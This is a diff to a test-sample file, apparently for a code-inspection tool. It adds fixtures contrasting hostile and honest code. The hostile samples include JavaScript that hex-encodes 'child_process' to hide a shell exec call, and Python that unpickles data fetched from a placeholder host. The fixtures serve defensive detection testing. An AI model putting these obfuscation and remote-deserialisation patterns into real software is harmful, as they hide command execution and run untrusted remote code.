@@ -1,6 +1,6 @@
 """Samples and twins of data that makes objects, or code that was compiled, as it arrives."""
 
-from inspection.rules.sample import Sample, py
+from inspection.rules.sample import Sample, js, py
 
 _GET = "requests.get('https://a.invalid').text"
 
@@ -13,6 +13,8 @@ def _compiled(loader: str, file: str) -> dict[str, str | bytes]:
         "a/c.pyc": b"o\r\r\n\0\0\0\0",
     }
 
+
+_SPELT = "const names = ['6874747073', '{}', '75746638']\nconst spelt = (text) => Buffer.from(text, 'hex').toString()\n"
 
 HOSTILE: dict[str, dict[str, Sample]] = {
     "remote_object": {
@@ -34,6 +36,11 @@ HOSTILE: dict[str, dict[str, Sample]] = {
         "a library that unpickles what is packed": py(
             "import compress_pickle, requests\n"
             "compress_pickle.loads(requests.get('https://a.invalid').content, 'gzip')\n"
+        ),
+    },
+    "decoded_code": {
+        "the name of a module that starts programs": js(
+            _SPELT.format("6368696c645f70726f63657373") + "require(spelt(names[1])).exec('echo a')\n", "review", line=3
         ),
     },
     "unread_code": {
@@ -58,6 +65,10 @@ HONEST: dict[str, dict[str, dict[str, str | bytes]]] = {
         "plain data from a message socket": {
             "a.py": "import zmq\ns = zmq.Context().socket(zmq.REQ)\ns.connect('tcp://a.invalid:1')\ns.recv_json()\n"
         },
+        "objects from another process of this machine": {
+            "a.py": "from multiprocessing.connection import Client, Listener\nlistener = Listener()\n"
+            "with Client(listener.address) as c:\n    print(c.recv(), listener.accept().recv())\n"
+        },
         "bytes from another process's listener": {
             "a.py": "from multiprocessing.connection import Client\nwith Client(('a.invalid', 1)) as c:\n"
             "    print(c.recv_bytes())\n"
@@ -66,6 +77,16 @@ HONEST: dict[str, dict[str, dict[str, str | bytes]]] = {
     "unread_code": {
         "a loader of sources is given one": {
             path: data for path, data in _compiled("SourceFileLoader", "b.py").items() if path != "a/c.pyc"
+        },
+    },
+    "decoded_code": {
+        "the names of a standard module and of an encoding": {
+            "a.js": _SPELT.format("68747470733a2f2f612e696e76616c6964")
+            + "require(spelt(names[0])).get(spelt(names[1]), "
+            "(reply) => { reply.setEncoding(spelt(names[2])); reply.on('data', console.log) })\n",
+        },
+        "the name of a standard module of Python": {
+            "a.py": "import base64\nprint(__import__(base64.b64decode('emxpYg==').decode()).crc32(b'a'))\n",
         },
     },
     "hidden_text": {
